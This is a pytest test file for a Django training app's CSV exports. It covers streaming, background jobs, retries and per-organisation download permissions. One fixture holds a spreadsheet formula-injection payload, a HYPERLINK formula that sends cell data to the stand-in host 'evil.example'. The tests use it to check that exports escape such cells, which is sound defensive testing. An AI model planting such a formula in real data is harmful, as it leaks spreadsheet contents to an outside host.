"""CSV exports: streamed downloads, background jobs, and who may fetch the files."""

import csv
import io
import json
import os
from datetime import datetime, timedelta
from unittest import mock
from zoneinfo import ZoneInfo

import pytest
from django.db import DatabaseError
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from dealer_training.progress import exports, rollups, tasks
from dealer_training.progress.models import ExportJob
from dealer_training.progress.services import export_job_create

from .factories import CohortFactory, add_attempts, series

TOKYO = ZoneInfo("Asia/Tokyo")
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}


def url(name, org, **kwargs):
    return reverse(f"progress:{name}", kwargs={"org_slug": org.slug, **kwargs})


def _rows(content: bytes):
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads Japanese names in UTF-8 only with the mark
    return list(csv.reader(io.StringIO(text[1:])))


def _params(kind="attempts", start="2025-04-01", end="2025-04-30", **extra):
    return {"kind": kind, "start": start, "end": end, **extra}


@pytest.fixture
def april(trainee, second_trainee):
    """Attempts on 1, 15 and 30 April (Tokyo time) and one on 1 May, for two trainees."""
    days = [datetime(2025, 4, d, 21, 0, tzinfo=TOKYO) for d in (1, 15, 30)]
    add_attempts(
        membership=trainee, results=[(True, 3200, days[0]), (False, 4100, days[1])], answer={"seat": 3}
    )
    add_attempts(membership=trainee, results=[(True, 2500, days[2])], skill="stub", variant="FR")
    add_attempts(membership=second_trainee, results=[(True, 5000, days[1])])
    add_attempts(membership=trainee, results=[(True, 1000, datetime(2025, 5, 1, 9, 0, tzinfo=TOKYO))])
    for membership in (trainee, second_trainee):
        rollups.rollups_rebuild_trainee(
            organisation_id=membership.organisation_id, trainee_id=membership.user_id
        )
    return days


def test_the_attempts_csv_streams_every_attempt_of_the_period_in_order(login_as, owner, trainee, april):
    response = login_as(owner).get(url("export_stream", owner.organisation), _params())
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="ginza-attempts-20250401-20250430.csv"' in response["Content-Disposition"]
    rows = _rows(b"".join(response.streaming_content))
    assert rows[0] == exports.ATTEMPT_COLUMNS
    body = rows[1:]
    assert len(body) == 4  # the May attempt is outside the period
    assert [row[0][:10] for row in body] == ["2025-04-01", "2025-04-15", "2025-04-15", "2025-04-30"]
    first = dict(zip(rows[0], body[0], strict=True))
    assert first["trainee_email"] == trainee.user.email
    assert (first["skill"], first["game"], first["correct"], first["seconds"]) == (
        "bring_in",
        "F7S",
        "1",
        "3.200",
    )
    assert json.loads(first["answer"]) == {"seat": 3}
    assert first["answered_at"] == "2025-04-01T21:00:00+09:00"


def test_the_export_reads_attempts_in_chunks_not_all_at_once(login_as, owner, april):
    real = exports.Attempt.objects.filter

    seen = {}

    def spy(*args, **kwargs):
        queryset = real(*args, **kwargs)
        original = queryset.__class__.iterator

        def iterator(self, chunk_size=None):
            seen["chunk_size"] = chunk_size
            return original(self, chunk_size=chunk_size)

        queryset.__class__ = type("Spied", (queryset.__class__,), {"iterator": iterator})
        return queryset

    with mock.patch.object(exports.Attempt.objects, "filter", spy):
        response = login_as(owner).get(url("export_stream", owner.organisation), _params())
        b"".join(response.streaming_content)
    assert seen["chunk_size"] == exports.CHUNK_SIZE


def test_the_export_filters_by_cohort_and_game(login_as, owner, second_trainee, april):
    cohort = CohortFactory(organisation=owner.organisation)
    cohort.members.add(second_trainee)
    client = login_as(owner)
    rows = _rows(
        b"".join(
            client.get(url("export_stream", owner.organisation), _params(cohort=cohort.pk)).streaming_content
        )
    )
    assert [row[1] for row in rows[1:]] == [second_trainee.user.email]
    rows = _rows(
        b"".join(
            client.get(url("export_stream", owner.organisation), _params(variant="FR")).streaming_content
        )
    )
    assert [(row[4], row[5]) for row in rows[1:]] == [("stub", "FR")]


def test_the_summary_csv_has_one_row_per_trainee_skill_and_game(login_as, owner, trainee, april):
    response = login_as(owner).get(url("export_stream", owner.organisation), _params(kind="summary"))
    rows = _rows(b"".join(response.streaming_content))
    assert rows[0] == exports.SUMMARY_COLUMNS
    by_key = {(r[0], r[2], r[3]): dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    mine = by_key[(trainee.user.email, "bring_in", "F7S")]
    assert (mine["attempts"], mine["correct"], mine["accuracy_percent"], mine["practice_days"]) == (
        "2",
        "1",
        "50.0",
        "2",
    )
    assert mine["average_seconds"] == "3.65"
    assert mine["attempts_all_time"] == "3"  # the May attempt counts in the standing, not in April
    assert mine["status"] == "practising"
    assert len(rows) == 4


FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize("kind", ["attempts", "summary"])
def test_a_trainee_whose_name_is_a_formula_is_exported_as_text(login_as, owner, trainee, april, kind):
    trainee.user.name = FORMULA_NAME
    trainee.user.save(update_fields=["name"])
    response = login_as(owner).get(url("export_stream", owner.organisation), _params(kind=kind))
    rows = _rows(b"".join(response.streaming_content))
    names = {dict(zip(rows[0], row, strict=True))["trainee_name"] for row in rows[1:]}
    assert "'" + FORMULA_NAME in names
    assert FORMULA_NAME not in names
    assert not any(cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row)


def test_the_job_file_escapes_a_formula_name_too(owner, trainee, april, media_root):
    trainee.user.name = FORMULA_NAME
    trainee.user.save(update_fields=["name"])
    job = _job(owner, media_root)
    tasks.export_run.apply(kwargs={"job_id": job.pk}).get()
    with open(os.path.join(media_root, job.file.name), encoding="utf-8") as done:
        rows = list(csv.reader(io.StringIO(done.read()[1:])))
    names = {dict(zip(rows[0], row, strict=True))["trainee_name"] for row in rows[1:]}
    assert "'" + FORMULA_NAME in names


def test_a_download_too_long_to_stream_is_refused_with_a_pointer_to_the_background_file(
    login_as, owner, april, settings
):
    settings.EXPORT_STREAM_MAX_ROWS = 3
    response = login_as(owner).get(url("export_stream", owner.organisation), _params(), **EN)
    assert response.status_code == 422
    assert not response.streaming
    assert (
        "This export has 4 rows, more than the 3 that can be downloaded directly" in response.content.decode()
    )
    settings.EXPORT_STREAM_MAX_ROWS = 4
    assert login_as(owner).get(url("export_stream", owner.organisation), _params()).streaming


def test_another_organisation_sees_none_of_these_attempts(login_as, other_owner, april):
    response = login_as(other_owner).get(url("export_stream", other_owner.organisation), _params())
    assert len(_rows(b"".join(response.streaming_content))) == 1


@pytest.mark.parametrize(
    ("params", "message"),
    [
        (_params(start="2025-05-01", end="2025-04-01"), "The last day comes before the first day."),
        (_params(start="yesterday"), "Enter a date such as 2025-04-01."),
        (_params(kind="everything"), "Choose attempts or summary."),
        (_params(cohort="12345"), "Choose a cohort from the list."),
        (_params(start="2000-01-01", end="2025-01-01"), "Export at most five years at a time."),
        ({}, "Enter a first day."),
    ],
)
def test_a_bad_export_request_answers_422_with_a_message(login_as, owner, params, message):
    response = login_as(owner).get(url("export_stream", owner.organisation), params, **EN)
    assert response.status_code == 422
    assert message in response.content.decode()


def test_the_export_page_offers_both_ways(login_as, instructor):
    page = login_as(instructor).get(url("exports", instructor.organisation), **EN).content.decode()
    assert "Download now" in page
    assert "Prepare the file" in page
    assert 'formaction="' + url("export_stream", instructor.organisation) in page


# --- background jobs -----------------------------------------------------------------------------


def test_preparing_a_file_runs_the_job_and_links_the_download(
    login_as, owner, april, media_root, django_capture_on_commit_callbacks
):
    client = login_as(owner)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url("exports", owner.organisation), _params(), **EN)
    assert response.status_code == 302
    job = ExportJob.objects.get()
    assert (job.status, job.done, job.total, job.requested_by) == ("done", 4, 4, owner.user)
    page = client.get(url("exports", owner.organisation), **EN).content.decode()
    assert "Ready" in page
    assert url("export_download", owner.organisation, pk=job.pk) in page
    download = client.get(url("export_download", owner.organisation, pk=job.pk))
    assert download.status_code == 200
    assert download["Content-Disposition"] == 'attachment; filename="ginza-attempts-20250401-20250430.csv"'
    rows = _rows(b"".join(download.streaming_content))
    assert len(rows) == 5


def test_an_htmx_request_answers_with_the_panel_and_a_polling_job(login_as, owner, media_root):
    client = login_as(owner)
    with mock.patch.object(tasks.export_run, "delay"):  # left waiting, as with a busy worker
        response = client.post(url("exports", owner.organisation), _params(), HTTP_HX_REQUEST="true", **EN)
    assert response.status_code == 200
    body = response.content.decode()
    assert body.lstrip().startswith('<div id="export-panel"')
    job = ExportJob.objects.get()
    status_url = url("export_status", owner.organisation, pk=job.pk)
    assert f'hx-get="{status_url}" hx-trigger="every 1s"' in body
    fragment = client.get(status_url, HTTP_HX_REQUEST="true", **EN).content.decode()
    assert fragment.lstrip().startswith(f'<li id="job-{job.pk}"')
    assert "Waiting to start" in fragment
    full = client.get(status_url, **EN)
    assert full.status_code == 200
    assert "<html" in full.content.decode()


def test_a_bad_job_request_answers_422_and_creates_nothing(login_as, owner):
    response = login_as(owner).post(
        url("exports", owner.organisation), _params(kind="x"), HTTP_HX_REQUEST="true", **EN
    )
    assert response.status_code == 422
    assert "Choose attempts or summary." in response.content.decode()
    assert not ExportJob.objects.exists()


def _job(owner, media_root, **params):
    with mock.patch.object(tasks.export_run, "delay"):
        return export_job_create(
            organisation=owner.organisation,
            requested_by=owner.user,
            filters=exports.ExportFilters.from_params({**_params(), **params}),
        )


def test_a_job_killed_half_way_is_rerun_from_the_start_and_finishes_once(owner, april, media_root):
    job = _job(owner, media_root)
    # What a killed worker leaves: the job running, a partial file with a row written twice.
    final = os.path.join(media_root, job.file.name)
    os.makedirs(os.path.dirname(final), exist_ok=True)
    with open(final + ".partial", "w", encoding="utf-8") as partial:
        partial.write("answered_at\nhalf,a,row\nhalf,a,row\n")
    ExportJob.objects.filter(pk=job.pk).update(status="running", done=2, total=4)
    tasks.export_run.apply(kwargs={"job_id": job.pk}).get()  # the redelivered message
    tasks.export_run.apply(kwargs={"job_id": job.pk}).get()  # and a duplicate: nothing more happens
    job.refresh_from_db()
    assert (job.status, job.done, job.total) == ("done", 4, 4)
    with open(final, encoding="utf-8") as done:
        rows = list(csv.reader(io.StringIO(done.read()[1:])))
    assert len(rows) == 5
    assert "half" not in str(rows)
    assert not os.path.exists(final + ".partial")


def test_a_job_that_cannot_write_its_file_is_marked_failed_with_a_message(login_as, owner, media_root):
    job = _job(owner, media_root)
    with mock.patch("builtins.open", side_effect=PermissionError("read-only")):
        tasks.export_run.apply(kwargs={"job_id": job.pk}).get()
    job.refresh_from_db()
    assert (job.status, job.error) == ("failed", exports.ERROR_FILE)
    page = login_as(owner).get(url("exports", owner.organisation), **EN).content.decode()
    assert "The file could not be written." in page


def test_a_job_whose_database_stays_away_is_marked_failed_after_the_last_retry(
    owner, media_root, monkeypatch
):
    job = _job(owner, media_root)
    # Eager retries run inline; let each one record its failure instead of raising.
    monkeypatch.setitem(tasks.export_run.app.conf, "task_eager_propagates", False)
    with mock.patch.object(exports, "count", side_effect=DatabaseError("gone")):
        result = tasks.export_run.apply(kwargs={"job_id": job.pk}, throw=False)
    assert result.failed()
    job.refresh_from_db()
    assert (job.status, job.error) == ("failed", exports.ERROR_DATABASE)


def test_only_staff_of_the_organisation_may_download(
    client, login_as, owner, trainee, other_owner, april, media_root
):
    job = _job(owner, media_root)
    tasks.export_run.apply(kwargs={"job_id": job.pk}).get()
    path = url("export_download", owner.organisation, pk=job.pk)
    assert client.get(path).status_code == 302  # anonymous: to the login page
    assert login_as(trainee).get(path).status_code == 403
    assert login_as(other_owner).get(path).status_code == 404
    # The same job id under the other organisation's address is not theirs either.
    assert (
        login_as(other_owner).get(url("export_download", other_owner.organisation, pk=job.pk)).status_code
        == 404
    )
    assert login_as(owner).get(path).status_code == 200


def test_a_file_not_ready_or_gone_is_404(login_as, owner, media_root):
    job = _job(owner, media_root)
    client = login_as(owner)
    assert client.get(url("export_download", owner.organisation, pk=job.pk)).status_code == 404
    ExportJob.objects.filter(pk=job.pk).update(status="done")
    assert client.get(url("export_download", owner.organisation, pk=job.pk)).status_code == 404


def test_export_status_of_another_organisation_is_404(login_as, owner, other_owner, media_root):
    job = _job(owner, media_root)
    assert (
        login_as(other_owner).get(url("export_status", other_owner.organisation, pk=job.pk)).status_code
        == 404
    )


def test_the_job_file_names_are_unguessable_and_per_organisation(owner, media_root):
    first, second = _job(owner, media_root), _job(owner, media_root)
    assert first.file.name != second.file.name
    assert first.file.name.startswith(f"exports/{owner.organisation_id}/")
    assert len(first.file.name.split("/")[2]) >= 20


def test_progress_is_reported_while_writing(owner, trainee, media_root, monkeypatch):
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 3)
    start = timezone.now() - timedelta(hours=1)
    add_attempts(membership=trainee, results=series(10, start=start))
    # From the local day of the first attempt to today: in the hour after local midnight they differ.
    first_day, today = timezone.localdate(start).isoformat(), timezone.localdate().isoformat()
    job = _job(owner, media_root, start=first_day, end=today)
    seen = []
    real, real_beat = exports._set, exports.jobs.beat

    def spy(job_id, **fields):
        seen.append(fields)
        return real(job_id, **fields)

    def beat_spy(model, job_id, run, **fields):
        seen.append(fields)
        return real_beat(model, job_id, run, **fields)

    monkeypatch.setattr(exports, "_set", spy)
    monkeypatch.setattr(exports.jobs, "beat", beat_spy)
    tasks.export_run.apply(kwargs={"job_id": job.pk}).get()
    assert [fields["done"] for fields in seen if set(fields) == {"done"}] == [2, 5, 8]
    assert seen[-1]["status"] == "done"
    assert seen[-1]["done"] == 10


def test_a_long_organisation_address_still_fits_the_file_name(db, media_root):
    from dealer_training.accounts.models import Role
    from tests.factories import MembershipFactory, OrganisationFactory

    org = OrganisationFactory(slug="a-very-long-card-room-address-that-uses-all-sixty-characters")
    owner = MembershipFactory(organisation=org, role=Role.OWNER)
    job = _job(owner, media_root)
    job.refresh_from_db()
    assert len(job.file.name) > 100  # longer than a FileField holds by default
    assert job.file.name.endswith("-attempts-20250401-20250430.csv")
